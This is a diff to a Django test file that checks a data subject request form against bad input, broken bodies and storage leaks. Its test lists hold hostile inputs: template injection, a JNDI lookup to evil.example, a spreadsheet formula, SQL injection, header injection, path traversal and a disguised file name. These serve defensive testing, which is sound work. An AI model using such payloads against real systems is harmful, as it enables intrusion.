@@ -7,14 +7,15 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 
+from dsr import storage
 from dsr.models import Case, Draft, DraftFile, OutboxMessage
-from dsr.names import UNSTORABLE
 from tests.web.public.visitor import AGENT, ANSWERS, Visitor, errors, picture, summary
 
 NAME, BORN, PHONE, EMAIL = "principal-name", "principal-birth_date", "principal-phone", "principal-email"
 NO_SUCH_DATE = "This day does not exist in the calendar."
 WRONG_EMAIL = "Write one e-mail address, like name@example.jp."
 WRONG_PHONE = "Write the phone number in digits, like 03-1234-5678 or +81 3 1234 5678."
+UNSTORABLE = "This text contains a character that cannot be stored. Please type it again without special characters."
 FILL_IN_NAME = "Fill in “Full name”."
 
 
@@ -53,8 +54,8 @@ BAD = [
     pytest.param(NAME, "\u3000\u3000", FILL_IN_NAME, id="F2 ideographic spaces"),
     pytest.param(NAME, "\u200b\u200d\ufeff", FILL_IN_NAME, id="F2 zero width"),
     pytest.param(NAME, "あ" * 10_000, "Write at most 200 characters. You wrote 10,000.", id="F3 10,000 characters"),
-    pytest.param(NAME, "山\x00田", str(UNSTORABLE), id="F6 NUL"),
-    pytest.param(NAME, "山\x07田", str(UNSTORABLE), id="F6 control character"),
+    pytest.param(NAME, "山\x00田", UNSTORABLE, id="F6 NUL"),
+    pytest.param(NAME, "山\x07田", UNSTORABLE, id="F6 control character"),
     pytest.param(EMAIL, "a@b\r\nBcc: x@y.jp", WRONG_EMAIL, id="F10 header injection"),
     pytest.param(EMAIL, "a@b", WRONG_EMAIL, id="F11 no top-level domain"),
     pytest.param(EMAIL, "a@@b.jp", WRONG_EMAIL, id="F11 two at signs"),
@@ -71,10 +72,18 @@ BAD = [
     pytest.param(BORN, "令和7年2月30日", NO_SUCH_DATE, id="F14 era, no such day"),
     pytest.param(BORN, "昭和100年4月1日", "This day does not belong to that era.", id="F14 Showa 100"),
     pytest.param(BORN, "平成31年5月1日", "This day does not belong to that era.", id="F14 after the era"),
-    pytest.param("principal-postal_code", "617-002", "Write the postal code with seven digits, like 617-0002.", id="postal"),
-    pytest.param("scope_disclosure", "あ" * 2001, "Write at most 2,000 characters. You wrote 2,001.", id="F29 long text"),
-    pytest.param("scope_disclosure", "x" * 60_000, "Write at most 2,000 characters. You wrote 60,000.", id="F29 one word"),
-    pytest.param("scope_disclosure", "a\n" * 50_000, "Write at most 2,000 characters. You wrote 99,999.", id="F29 lines"),
+    pytest.param(
+        "principal-postal_code", "617-002", "Write the postal code with seven digits, like 617-0002.", id="postal"
+    ),
+    pytest.param(
+        "scope_disclosure", "あ" * 2001, "Write at most 2,000 characters. You wrote 2,001.", id="F29 long text"
+    ),
+    pytest.param(
+        "scope_disclosure", "x" * 60_000, "Write at most 2,000 characters. You wrote 60,000.", id="F29 one word"
+    ),
+    pytest.param(
+        "scope_disclosure", "a\n" * 50_000, "Write at most 2,000 characters. You wrote 99,999.", id="F29 lines"
+    ),
     pytest.param("reply_method", "fax", "Choose one of the answers shown.", id="F15 unknown reply method"),
     pytest.param("kinds", ["close_the_case"], "Choose from the answers shown.", id="F15 unknown right"),
     pytest.param("category", "staff", "Choose one of the answers shown.", id="F15 unknown category"),
@@ -85,7 +94,9 @@ BAD = [
 def test_names_what_is_wrong_and_keeps_the_rest(visitor, field, value, sentence):
     response = visitor.send({field: value})
     assert (response.status_code, errors(response)) == (422, {f"id_{field}": sentence})
-    kept = {name: shown_again(response, name) for name in (NAME, "principal-address", "scope_disclosure") if name != field}
+    kept = {
+        name: shown_again(response, name) for name in (NAME, "principal-address", "scope_disclosure") if name != field
+    }
     assert kept == {name: ANSWERS[name] for name in kept}
     assert (Case.objects.count(), OutboxMessage.objects.count()) == (0, 0)
 
@@ -99,7 +110,17 @@ def test_keeps_little_of_what_is_far_too_long(visitor):
     assert len(Draft.objects.get().typed["scope_disclosure"][0]) == 20_000
 
 
-GOOD_NAMES = ["髙﨑 𠮷男", "葛󠄀城 花子", "Ünïcødé Ñame", "محمد علي", "山田 😀", "ﾔﾏﾀﾞ ﾀﾛｳ", "ＴＡＲＯ", "神\ufa19 太郎", "O'Neill-Smith"]
+GOOD_NAMES = [
+    "髙﨑 𠮷男",
+    "葛󠄀城 花子",
+    "Ünïcødé Ñame",
+    "محمد علي",
+    "山田 😀",
+    "ﾔﾏﾀﾞ ﾀﾛｳ",
+    "ＴＡＲＯ",
+    "神\ufa19 太郎",
+    "O'Neill-Smith",
+]
 
 
 @pytest.mark.parametrize("name", GOOD_NAMES)
@@ -114,8 +135,8 @@ HOSTILE = [
     "{{7*7}}",
     "{% debug %}",
     "${jndi:ldap://evil.example/a}",
-    "=HYPERLINK(\"http://evil.example\")",
-    "\u202egpj.exe",
+    '=HYPERLINK("http://evil.example")',
+    "gpj\u202eexe.jpg",
     "' OR 1=1 --",
 ]
 
@@ -141,7 +162,7 @@ def test_takes_a_phone_number_as_people_write_it(visitor, phone):
     assert Case.objects.get().principal.phone == phone
 
 
-@pytest.mark.parametrize("address", ["a.b+c@example.co.jp", '"quoted name"@example.jp', "x@xn--fsq.example"])
+@pytest.mark.parametrize("address", ["a.b+c@example.co.jp", '"quoted"@example.jp', "x@xn--fsq.example"])
 def test_takes_an_unusual_but_right_mail_address(visitor, address):
     visitor.ask({EMAIL: address})
     assert Case.objects.get().principal.email == address
@@ -156,7 +177,16 @@ def test_writes_a_postal_code_the_usual_way(visitor, typed, kept):
 
 
 def test_ignores_fields_that_the_form_does_not_have(visitor):
-    visitor.ask({"state": "replied", "desk": "1", "verified": "true", "regime": "US-CA", "language": "../../etc", "next": "//evil"})
+    visitor.ask(
+        {
+            "state": "replied",
+            "desk": "1",
+            "verified": "true",
+            "regime": "US-CA",
+            "language": "../../etc",
+            "next": "//evil",
+        }
+    )
     case = Case.objects.get()
     assert (case.state, case.desk.slug, case.regime, case.language) == ("received", "omron-software", "JP-APPI", "en")
 
@@ -178,7 +208,12 @@ def test_asks_the_questions_of_chosen_rights_only(visitor):
 def test_asks_for_no_address_where_the_law_needs_none(desks):
     european = Visitor("citizen-systems-japan", "DE")
     european.ask(
-        {"principal-address": None, "principal-postal_code": "D-10117", "kinds": ["gdpr_access"], "scope_disclosure": None}
+        {
+            "principal-address": None,
+            "principal-postal_code": "D-10117",
+            "kinds": ["gdpr_access"],
+            "scope_disclosure": None,
+        }
     )
     case = Case.objects.get()
     assert (case.regime, case.residence, case.principal.postal_code) == ("EU-GDPR", "DE", "D-10117")
@@ -187,24 +222,26 @@ def test_asks_for_no_address_where_the_law_needs_none(desks):
 def test_asks_for_an_address_when_the_reply_goes_by_post(desks):
     european = Visitor("citizen-systems-japan", "DE")
     response = european.send({"principal-address": None, "kinds": ["gdpr_access"], "reply_method": "writing"})
-    assert errors(response) == {
-        "id_principal-address": "Fill in “Address”.",
-        "id_principal-postal_code": "",
-    } or errors(response) == {"id_principal-address": "Fill in “Address”."}
+    assert errors(response) == {"id_principal-address": "Fill in “Address”."}
 
 
 AGENTS = [
-    pytest.param("appointed_agent", {}, {"id_agent-name": FILL_IN_NAME}, {"agent-name": ""}, id="F31 agent without name"),
-    pytest.param("appointed_agent", {}, {"id_principal-name": FILL_IN_NAME}, {NAME: ""}, id="F31 no principal"),
+    pytest.param("appointed_agent", {"id_agent-name": FILL_IN_NAME}, {"agent-name": ""}, id="F31 agent without name"),
+    pytest.param("appointed_agent", {"id_principal-name": FILL_IN_NAME}, {NAME: ""}, id="F31 no principal"),
     pytest.param(
-        "qualified_agent", {}, {"id_agent-organisation": "Fill in “Office or firm”."}, {"agent-organisation": ""}, id="no office"
-    ),
-    pytest.param(
-        "minor_agent", {}, {"id_principal-birth_date": "Fill in “Date of birth”."}, {BORN: ""}, id="minor without birth date"
+        "qualified_agent",
+        {"id_agent-organisation": "Fill in “Office or firm”."},
+        {"agent-organisation": ""},
+        id="no office",
     ),
     pytest.param(
         "minor_agent",
-        {},
+        {"id_principal-birth_date": "Fill in “Date of birth”."},
+        {BORN: ""},
+        id="minor without birth date",
+    ),
+    pytest.param(
+        "minor_agent",
         {
             "id_principal-birth_date": "This person is of age. An adult asks alone, or appoints an agent: "
             "go back and choose who is asking."
@@ -214,7 +251,6 @@ AGENTS = [
     ),
     pytest.param(
         "appointed_agent",
-        {},
         {
             "id_agent-name": "The agent and the data subject are the same person. If you ask for yourself, "
             "go back and choose “I ask for myself”."
@@ -225,8 +261,8 @@ AGENTS = [
 ]
 
 
-@pytest.mark.parametrize(("who", "_unused", "expected", "changes"), AGENTS)
-def test_tells_an_agent_what_is_missing(desks, who, _unused, expected, changes):
+@pytest.mark.parametrize(("who", "expected", "changes"), AGENTS)
+def test_tells_an_agent_what_is_missing(desks, who, expected, changes):
     response = Visitor(who=who).send({**AGENT, "agent-organisation": "さくら法律事務所", **changes})
     assert (response.status_code, errors(response)) == (422, expected)
 
@@ -234,7 +270,11 @@ def test_tells_an_agent_what_is_missing(desks, who, _unused, expected, changes):
 def test_takes_a_request_of_a_parent_without_papers(desks):
     Visitor(who="minor_agent").ask({**AGENT, BORN: "2011-05-10", PHONE: "", EMAIL: ""})
     case = Case.objects.get()
-    assert (case.agent.name, case.principal.birth_date, case.requester_type) == ("佐藤 花子", "2011-05-10", "minor_agent")
+    assert (case.agent.name, case.principal.birth_date, case.requester_type) == (
+        "佐藤 花子",
+        "2011-05-10",
+        "minor_agent",
+    )
     assert [item.code for item in case.items.all()] == ["identity_of_principal", "identity_of_agent", "kinship"]
 
 
@@ -252,7 +292,11 @@ def test_shows_the_form_again_when_the_token_is_missing(desks):
 
 def test_shows_the_form_again_when_the_trap_is_filled(visitor):
     response = visitor.send(website="https://spam.example")
-    assert (response.status_code, shown_again(response, NAME), shown_again(response, "website")) == (403, ANSWERS[NAME], "")
+    assert (response.status_code, shown_again(response, NAME), shown_again(response, "website")) == (
+        403,
+        ANSWERS[NAME],
+        "",
+    )
     assert (Draft.objects.count(), Case.objects.count()) == (0, 0)
 
 
@@ -262,7 +306,9 @@ def test_refuses_other_methods(visitor, method):
 
 
 def test_knows_no_method_override(visitor):
-    assert visitor.client.post(visitor.form_url, ANSWERS, headers={"x-http-method-override": "DELETE"}).status_code == 302
+    assert (
+        visitor.client.post(visitor.form_url, ANSWERS, headers={"x-http-method-override": "DELETE"}).status_code == 302
+    )
 
 
 OTHER_BODIES = [
@@ -273,7 +319,9 @@ OTHER_BODIES = [
     pytest.param("multipart/form-data; boundary=x; charset=utf-7", b"--x--\r\n", 400, id="F23 UTF-7"),
     pytest.param("multipart/form-data", b"--x\r\n", 400, id="F21 no boundary"),
     pytest.param("multipart/form-data; boundary=" + "x" * 300, b"--x\r\n", 400, id="F21 long boundary"),
-    pytest.param("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(1001)), 400, id="F19 1,001 fields"),
+    pytest.param(
+        "application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(1001)), 400, id="F19 1,001 fields"
+    ),
     pytest.param("application/x-www-form-urlencoded", b"a=" + b"x" * 3_000_000, 413, id="F20 3 MB of text"),
 ]
 
@@ -292,14 +340,18 @@ def test_refuses_101_files(visitor):
 
 MULTIPART = "multipart/form-data; boundary=frontier"
 BROKEN = [
-    pytest.param(b"--frontier\r\nContent-Disposition: form-data; name=\"principal-name\"\r\n\r\nTaro", id="F21 not closed"),
-    pytest.param(b"--frontier\r\nContent-Disposition: form-data; name=\"x\"" + b"y" * 70_000 + b"\r\n\r\nz\r\n--frontier--", id="F21 header"),
     pytest.param(
-        b"--frontier\r\nContent-Type: multipart/mixed; boundary=inner\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n"
-        b"--inner\r\nContent-Disposition: file; filename=\"a.jpg\"\r\n\r\nx\r\n--inner--\r\n--frontier--\r\n",
+        b'--frontier\r\nContent-Disposition: form-data; name="principal-name"\r\n\r\nTaro', id="F21 not closed"
+    ),
+    pytest.param(
+        b'--frontier\r\nContent-Disposition: form-data; name="x"' + b"y" * 70_000 + b"\r\n\r\nz\r\n--frontier--",
+        id="F21 header",
+    ),
+    pytest.param(
+        b'--frontier\r\nContent-Type: multipart/mixed; boundary=inner\r\nContent-Disposition: form-data; name="f"\r\n\r\n'
+        b'--inner\r\nContent-Disposition: file; filename="a.jpg"\r\n\r\nx\r\n--inner--\r\n--frontier--\r\n',
         id="F21 nested",
     ),
-    pytest.param(b"", id="empty body"),
 ]
 
 
@@ -311,13 +363,15 @@ def test_survives_a_broken_body(visitor, body):
 
 
 @pytest.mark.parametrize(
-    "bytes_of_name", [b"\x8e\x52\x93\x63", b"\xed\xa0\x80", b"\xc3\x28", "山田".encode("euc-jp")], ids=lambda name: name.hex()
+    "bytes_of_name",
+    [b"\x8e\x52\x93\x63", b"\xed\xa0\x80", b"\xc3\x28", "山田".encode("euc-jp")],
+    ids=lambda name: name.hex(),
 )
 def test_refuses_a_name_that_is_not_utf_8(visitor, bytes_of_name):
     """F6 and F23: what was meant is lost, so the person is asked again."""
     body = b"principal-name=" + b"".join(b"%%%02X" % byte for byte in bytes_of_name)
     response = visitor.client.post(visitor.form_url, body, content_type="application/x-www-form-urlencoded")
-    assert errors(response)["id_principal-name"] == str(UNSTORABLE)
+    assert errors(response)["id_principal-name"] == UNSTORABLE
 
 
 @pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example"])
@@ -392,9 +446,8 @@ def test_offers_no_form_where_the_desk_takes_paper(desks):
     assert Draft.objects.count() == 0
 
 
-def test_keeps_files_sealed(visitor, settings):
+def test_keeps_files_and_words_sealed(visitor):
     visitor.send({"document_identity_of_principal": picture(), BORN: "x"})
-    from dsr import storage
-
-    [kept] = DraftFile.objects.all()
-    assert storage.get(kept.key).find(b"JFIF") == -1
+    [draft], [kept] = Draft.objects.all(), DraftFile.objects.all()
+    assert b"JFIF" not in storage.get(kept.key)
+    assert ANSWERS[NAME].encode() not in bytes(draft.sealed_typed)
